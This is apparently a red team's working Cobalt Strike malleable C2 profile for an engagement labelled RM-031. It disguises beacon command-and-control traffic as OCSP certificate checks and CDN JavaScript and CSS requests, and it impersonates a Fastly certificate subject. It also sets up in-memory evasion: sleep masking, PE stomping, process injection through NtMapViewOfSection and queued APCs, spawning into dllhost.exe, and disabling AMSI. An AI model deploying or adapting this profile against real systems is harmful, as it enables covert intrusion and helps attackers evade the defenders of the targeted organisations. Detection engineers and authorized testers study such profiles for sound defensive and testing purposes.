# Ravenmark — malleable C2 profile "ocsp-cdn" (CS 4.9)
# Blends HTTPS beacons with OCSP / static CDN traffic. Based on public reference profiles,
# heavily modified. Used for RM-031 (Northwind). Review with c2lint before each engagement.

set sample_name "ocsp-cdn";
set sleeptime "45000";
set jitter    "37";
set useragent "Microsoft-CryptoAPI/10.0";
set data_jitter "64";
set host_stage "false";

https-certificate {
    # real cert is loaded from the keystore on the teamserver; these are only the subject fields
    set C   "US";
    set CN  "cdn-static-assets.net";
    set O   "Fastly, Inc.";
    set validity "365";
}

http-config {
    set headers "Date, Server, Content-Length, Keep-Alive, Connection, Content-Type";
    header "Server" "nginx";
    header "Keep-Alive" "timeout=10, max=100";
    header "Connection" "Keep-Alive";
    set trust_x_forwarded_for "true";
    set block_useragents "curl*,lynx*,wget*,python-requests*";
}

http-get {
    set uri "/ocsp/MFEwTzBNMEswSTAJBgUrDgMCGgUABBQ /ocsp/MFIwUDBOMEwwSjAJBgUrDgMCGgUABBQ";
    set verb "GET";

    client {
        header "Accept" "*/*";
        header "Host" "ocsp.cdn-static-assets.net";
        metadata {
            netbiosu;
            prepend "AAkGBSsOAwIaBQAEFA";
            uri-append;
        }
    }

    server {
        header "Content-Type" "application/ocsp-response";
        header "Cache-Control" "max-age=86400, public";
        output {
            base64;
            prepend "MIIBwQoBAKCCAbowggG2BgkrBgEFBQcwAQEEggGnMIIBozCBjKIWBBQ";
            append "GA8yMDI1MDMxMTAwMDAwMFqgERgPMjAyNTAzMTgwMDAwMDBaMA0GCSqGSIb3DQEBCwUAA4IBAQ";
            print;
        }
    }
}

http-post {
    set uri "/static/js/vendor.3f9a1c.min.js /static/css/app.8b2d7e.css";
    set verb "POST";

    client {
        header "Accept" "text/css,*/*;q=0.1";
        header "Origin" "https://cdn-static-assets.net";
        id {
            mask;
            base64url;
            parameter "v";
        }
        output {
            mask;
            base64url;
            print;
        }
    }

    server {
        header "Content-Type" "application/javascript; charset=utf-8";
        output {
            mask;
            base64url;
            prepend "/*! jQuery v3.7.1 | (c) OpenJS Foundation and other contributors */";
            print;
        }
    }
}

stage {
    set userwx "false";
    set stomppe "true";
    set obfuscate "true";
    set cleanup "true";
    set sleep_mask "true";
    set smartinject "true";
    transform-x64 {
        strrep "ReflectiveLoader" "ExecuteThunk";
        strrep "beacon.x64.dll" "";
    }
}

process-inject {
    set allocator "NtMapViewOfSection";
    set min_alloc "17500";
    set startrwx "false";
    set userwx "false";
    execute {
        CreateThread "ntdll!RtlUserThreadStart+0x21";
        NtQueueApcThread-s;
        SetThreadContext;
        RtlCreateUserThread;
    }
}

post-ex {
    set spawnto_x86 "%windir%\\syswow64\\dllhost.exe";
    set spawnto_x64 "%windir%\\sysnative\\dllhost.exe";
    set obfuscate "true";
    set smartinject "true";
    set amsi_disable "true";
    set pipename "mojo.5688.8052.183894939787088877##, mojo.5688.8052.35780273329370473##";
}
